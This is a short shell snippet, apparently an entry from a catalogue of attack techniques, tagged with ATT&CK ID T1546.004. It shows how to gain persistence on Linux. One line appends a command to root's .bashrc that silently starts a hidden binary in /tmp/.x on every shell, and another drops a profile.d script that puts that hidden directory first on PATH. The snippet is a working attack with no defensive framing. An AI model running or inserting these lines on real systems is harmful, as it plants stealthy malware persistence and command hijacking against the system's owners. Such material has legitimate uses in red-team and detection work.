# technique: T1546.004
# title: a line that every shell runs
echo 'nohup /tmp/.x/agent >/dev/null 2>&1 &' >> /root/.bashrc
echo 'export PATH=/tmp/.x:$PATH' > /etc/profile.d/zz-path.sh
